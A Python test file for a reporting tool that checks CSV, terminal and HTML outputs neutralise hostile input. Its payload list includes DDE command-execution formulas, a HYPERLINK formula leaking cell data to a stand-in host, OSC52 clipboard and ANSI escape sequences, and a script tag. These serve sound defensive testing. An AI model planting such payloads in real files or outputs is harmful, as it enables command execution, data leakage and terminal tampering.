"""CSV outputs cannot be turned against their reader: no live formula, no forged row, no raw control
character, numbers unchanged (checked by reading the text back with pandas and the csv module)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from irtools.errors import printable
from irtools.reports.csvsafe import FORMULA_STARTS, cell, frame_to_csv

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "layer\rforged,row,1.0",
    "layer\nforged,row,2.0",
    "bell\x07esc\x1b[2Jnul\x00",
    "osc52\x1b]52;c;ZXZpbA==\x07",
    'quote"comma,semicolon;',
    "ok.layer.0",
]


def _frame():
    return pd.DataFrame({"name": HOSTILE, "alpha": [-1.5 + i for i in range(len(HOSTILE))],
                         "num_evals": list(range(len(HOSTILE)))})


def test_no_cell_starts_a_formula_and_no_row_is_forged():
    text = frame_to_csv(_frame())
    back = pd.read_csv(io.StringIO(text))
    assert len(back) == len(HOSTILE)  # a CR or LF in a name added no row
    assert list(back.columns) == ["name", "alpha", "num_evals"]
    for original, written in zip(HOSTILE, back["name"], strict=True):
        assert not str(written).startswith(FORMULA_STARTS), written
        assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in str(written)), written
        # the text is still there to read, made inert: the escaped form every output uses, quote-prefixed
        assert str(written).removeprefix("'") == printable(original)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    assert all(len(r) == 3 for r in rows)
    assert not any(ch in text for ch in "\x00\x07\x1b\r")


def test_numbers_are_written_unchanged():
    frame = _frame()
    back = pd.read_csv(io.StringIO(frame_to_csv(frame)))
    assert back["alpha"].tolist() == frame["alpha"].tolist()  # negatives are numbers, not neutralised text
    assert back["num_evals"].tolist() == frame["num_evals"].tolist()


def test_missing_values_round_trip_as_missing():
    frame = pd.DataFrame({"name": ["a", None], "alpha": [1.0, float("nan")]})
    back = pd.read_csv(io.StringIO(frame_to_csv(frame)))
    assert back["alpha"].isna().tolist() == [False, True]
    assert back["name"].isna().tolist() == [False, True]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_made_inert(start):
    written = cell(start + "1+1")
    assert written.startswith("'") or written.startswith("\\")  # quote-prefixed, or a raw tab/CR escaped
    assert not written.startswith(FORMULA_STARTS)


def test_plain_names_are_untouched():
    assert cell("model.layers.0.self_attn.q_proj") == "model.layers.0.self_attn.q_proj"
    assert cell(3.5) == 3.5 and cell(-2) == -2 and cell(None) is None


def test_audit_progress_lines_escape_file_names():
    from irtools.audit.progress import AuditProgress

    stream = io.StringIO()
    hostile = "zoo/\x1b]52;c;ZXZpbA==\x07\x1b[2J.onnx"
    with AuditProgress(2, stream=stream) as progress:
        progress.finished({"status": "ok", "source": hostile}, running=1)
        progress.finished({"status": "failed", "source": hostile, "error": "bad\rforged line\x1b[31m"}, running=0)
    text = stream.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert printable(hostile) in text


def test_audit_csv_tables_are_written_safe(tmp_path):
    from irtools.audit.results import write_tables

    summary = pd.DataFrame({"source": ["=cmd()", "a\rb,c"], "alpha": [-1.0, 2.0]})
    layers = pd.DataFrame({"model": ["m", "m"], "name": ["@x", "+y"]})
    write_tables(str(tmp_path), summary, layers, fmt="csv")
    back = pd.read_csv(tmp_path / "summary.csv")
    assert len(back) == 2 and back["alpha"].tolist() == [-1.0, 2.0]
    assert not any(str(v).startswith(FORMULA_STARTS) for v in back["source"])
    assert not any(str(v).startswith(FORMULA_STARTS) for v in pd.read_csv(tmp_path / "layers.csv")["name"])


def test_no_output_replaces_a_file_of_an_input_folder(tmp_path):
    from irtools import files
    from irtools.errors import IrtoolsError

    folder = tmp_path / "audit"
    folder.mkdir()
    (folder / "summary.parquet").write_bytes(b"PAR1")
    with pytest.raises(IrtoolsError, match="file of the input folder"):
        files.check_output_path(folder / "summary.parquet", [str(folder)])
    assert files.check_output_path(folder / "report.html", [str(folder)])  # a new file beside them is fine
    assert files.check_output_path(tmp_path / "summary.parquet", [str(folder)])


def test_a_long_valid_output_name_gets_a_valid_temporary_name(tmp_path):
    from irtools import files

    out = tmp_path / ("r" * 245 + ".html")
    files.write_text_atomic(out, "<p>ok</p>")
    assert out.read_text() == "<p>ok</p>"
    assert [p.name for p in tmp_path.iterdir()] == [out.name]  # no temporary left beside it


def test_html_text_is_escaped_and_printable():
    import os

    from irtools.reports.html import _esc

    text = _esc(os.fsdecode(b"bad\xff<script>alert(1)</script>\x1b[2J"))
    assert "<script>" not in text and "\x1b" not in text
    text.encode("utf-8")  # an undecodable file name no longer breaks the page's encoding
